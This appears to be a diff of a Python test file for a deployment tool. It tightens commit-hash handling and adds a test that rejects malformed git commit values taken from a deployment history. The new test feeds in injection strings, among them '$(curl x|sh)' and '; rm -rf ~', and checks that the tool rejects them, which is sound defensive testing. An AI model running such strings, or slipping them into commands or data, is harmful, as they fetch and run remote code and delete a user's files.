@@ -16,14 +16,21 @@ def deployment(chart: str) -> dict[str, object]:
 
 
 def test_deployed_chart_is_that_of_the_archive_in_the_state() -> None:
-    record = {"kind": "update", "result": "succeeded", "environment": {"git.head": "0123456789abcdef"}}
-    history = [{"kind": "update", "result": "failed", "environment": {"git.head": "f" * 16}}, record]
+    record = {"kind": "update", "result": "succeeded", "environment": {"git.head": "0123456789" * 4}}
+    history = [{"kind": "update", "result": "failed", "environment": {"git.head": "f" * 40}}, record]
     found = charts(deployment(f"./.charts/{ARCHIVE}"), history)
     assert (found.deployed, found.here) == (versions.AIRFLOW_CHART, versions.AIRFLOW_CHART)
     assert found.change() is None
-    assert found.commit == "0123456789abcdef"
+    assert found.commit == "0123456789" * 4
     assert charts({}, []).deployed == charts(deployment("a chart of somebody"), []).deployed == ""
     assert not Charts(here="1.23.0").to_newer, "what is not known is not compared"
+
+
+def test_commit_of_the_history_is_one_or_none() -> None:
+    """It stands in a command that a person copies, and whoever writes into the backend wrote it."""
+    for head in ("$(curl x|sh)", "0123456789ab; rm -rf ~", "f" * 12, "0123456789" * 4 + "\n", ""):
+        record = {"kind": "update", "result": "succeeded", "environment": {"git.head": head}}
+        assert charts(deployment(f"./.charts/{ARCHIVE}"), [record]).commit == "", head
 
 
 def test_ten_is_more_than_nine() -> None:
